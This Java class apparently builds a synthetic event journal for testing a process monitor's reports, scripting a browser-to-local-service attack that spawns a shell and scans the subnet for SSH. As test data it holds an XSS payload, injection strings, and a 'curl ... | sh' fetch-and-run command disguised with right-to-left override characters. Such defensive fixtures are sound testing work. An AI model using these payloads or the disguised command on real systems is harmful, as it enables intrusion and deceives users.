package dev.rubato.lab;

import dev.rubato.event.Address;
import dev.rubato.event.Event;
import dev.rubato.event.Flow;
import dev.rubato.event.ProcessImage;
import dev.rubato.event.ProcessKey;
import dev.rubato.journal.EventCodec;
import dev.rubato.journal.Journal;
import dev.rubato.journal.JournalLimits;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;

/**
 * A page in a browser makes a local service start a shell, whose name and arguments would break out of a careless
 * report; the shell then tries one address after the other.
 */
public final class HostileStory {
    public static final String MARKUP =
            "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>";
    public static final String TURNED = "curl \u202ehs.x/9.311.0.302//:ptth\u202c | sh";
    public static final String QUOTES = "\"'`${1+1}{{data}}%s\u0000\u001b[31m";
    public static final int SCANNED = 60;

    private static final long START_NS = 1_780_000_000_000_000_000L;
    private static final long MS = 1_000_000L;
    private static final String LOCAL = "127.0.0.1";
    private static final int SERVICE = 8081;

    private final List<Event> events = new ArrayList<>();
    private long nowNs = START_NS;
    private int nextPid = 100;
    private int nextPort = 40_000;
    private long nextSocket = 64;

    private HostileStory() {}

    /** Writes the story into a journal below {@code directory} and gives the journal's place. */
    public static Path journal(Path directory) {
        Path place = directory.resolve("journal");
        try (Journal<Event> journal = Journal.open(
                place.resolve("events"), new EventCodec(), JournalLimits.of(Long.MAX_VALUE, Duration.ofDays(36_500)))) {
            HostileStory story = new HostileStory();
            story.tell();
            story.events.forEach(journal::append);
        }
        return place;
    }

    private void tell() {
        add(new Event.AgentStarted(nowNs, "laptop<b>", "boot-1", new ProcessKey(99, nowNs)));
        add(new Event.SensorStarted(nowNs, "kernel-trace", Event.Visibility.EXACT, ""));
        add(new Event.SensorStarted(nowNs, "gpu", Event.Visibility.ABSENT, "there is <no> GPU"));
        add(new Event.NetworkChanged(
                nowNs, List.of(new Event.InterfaceAddress("eth0", Address.parse("10.0.0.5"), 24)), List.of()));
        ProcessKey init = new ProcessKey(1, nowNs - 1_000_000 * MS);
        add(new Event.ProcessExecuted(
                nowNs, init, null, image(0, 0, ProcessImage.Stdin.NULL_DEVICE, "/sbin/init"), Event.Basis.SNAPSHOT));
        ProcessKey terminal = start(init, 101, 34_816, ProcessImage.Stdin.TERMINAL, "/bin/bash");
        ProcessKey desk = start(init, 102, 34_817, ProcessImage.Stdin.TERMINAL, "/bin/bash");
        ProcessKey server = start(terminal, 101, 34_816, ProcessImage.Stdin.TERMINAL, "/usr/bin/node", "server.js");
        add(new Event.ListenerOpened(nowNs, nextSocket++, Address.parse(LOCAL), SERVICE, server, Event.Basis.EXACT));
        ProcessKey browser = start(
                desk, 102, 34_817, ProcessImage.Stdin.NULL_DEVICE, "/usr/lib/chromium/chromium", "--headless", MARKUP);
        start(browser, 102, 34_817, ProcessImage.Stdin.NULL_DEVICE, "/usr/lib/chromium/chromium", "--type=zygote");
        ProcessKey network = start(
                browser,
                102,
                34_817,
                ProcessImage.Stdin.NULL_DEVICE,
                "/proc/self/exe",
                "--type=utility",
                "--utility-sub-type=network.mojom");
        connect(network, "93.184.216.34", 443, Event.Outcome.ESTABLISHED);
        nowNs += 500 * MS;
        connect(network, LOCAL, SERVICE, Event.Outcome.ESTABLISHED);
        nowNs += 12 * MS;
        ProcessKey shell = start(
                server,
                101,
                34_816,
                ProcessImage.Stdin.PIPE,
                "/bin/sh",
                "-c",
                TURNED,
                MARKUP,
                QUOTES,
                "x".repeat(3000));
        for (int i = 1; i <= SCANNED; i++) {
            nowNs += 300 * MS;
            if (i % 5 == 0) {
                start(shell, 101, 34_816, ProcessImage.Stdin.PIPE, "/usr/bin/nc<i>", MARKUP, "10.0.0." + (i + 10));
            }
            connect(shell, "10.0.0." + (i + 10), 22, i == 7 ? Event.Outcome.ESTABLISHED : Event.Outcome.REFUSED);
        }
        add(new Event.SensorGap(nowNs, "kernel-trace", 17, nowNs - MS, nowNs, "overrun & <lost>"));
        for (int i = 0; i < 8; i++) {
            nowNs += 1000 * MS;
            add(new Event.TimePassed(nowNs));
        }
    }

    private void add(Event event) {
        events.add(event);
        nowNs += MS / 10;
    }

    private ProcessKey start(ProcessKey parent, int session, int tty, ProcessImage.Stdin stdin, String... args) {
        ProcessKey child = new ProcessKey(nextPid++, nowNs);
        add(new Event.ProcessForked(nowNs, child, parent));
        add(new Event.ProcessExecuted(nowNs, child, null, image(session, tty, stdin, args), Event.Basis.EXACT));
        return child;
    }

    private static ProcessImage image(int session, int tty, ProcessImage.Stdin stdin, String... args) {
        return new ProcessImage(args[0], List.of(args), true, "1000", session, tty, stdin, "", "/home/me");
    }

    private void connect(@Nullable ProcessKey client, String address, int port, Event.Outcome outcome) {
        long socket = nextSocket++;
        Address to = Address.parse(address);
        Address from = to.isLoopback() ? to : Address.parse("10.0.0.5");
        Flow opening = new Flow(Flow.Protocol.TCP, Address.ANY, 0, to, port);
        Flow open = new Flow(Flow.Protocol.TCP, from, nextPort++, to, port);
        add(new Event.ConnectionOpened(nowNs, socket, opening, Flow.Direction.OUTBOUND, client, Event.Basis.EXACT));
        add(new Event.ConnectionResolved(nowNs, socket, open, outcome, Event.Basis.EXACT));
    }
}
